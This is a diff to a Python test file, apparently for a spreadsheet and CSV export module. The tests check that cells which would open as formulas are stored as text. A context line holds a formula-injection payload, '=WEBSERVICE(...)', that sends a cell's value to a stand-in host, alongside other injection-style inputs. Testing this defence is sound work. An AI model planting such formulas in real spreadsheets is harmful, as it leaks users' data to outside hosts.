@@ -17,3 +17,11 @@ def test_every_sheet_keeps_a_leading_equals_sign_as_text_and_numbers_as_numbers(
     assert [c.data_type for c in first[1]] == ["s", "n", "s", "s"]
     assert second["A1"].value == '=WEBSERVICE("http://x.example/?"&A1)'
     assert second["A1"].data_type == "s"
+
+
+def test_a_csv_row_writes_what_would_open_as_a_formula_as_text_and_numbers_as_numbers():
+    from motcua.spreadsheets import csv_cells
+
+    row = ["=1+2", "+84 912", "-2+3", "@SUM(A1)", "\t=A1", "Bình thường", "", -3.5, 12, None]
+    assert csv_cells(row) == ["'=1+2", "'+84 912", "'-2+3", "'@SUM(A1)", "'\t=A1",
+                              "Bình thường", "", -3.5, 12, None]
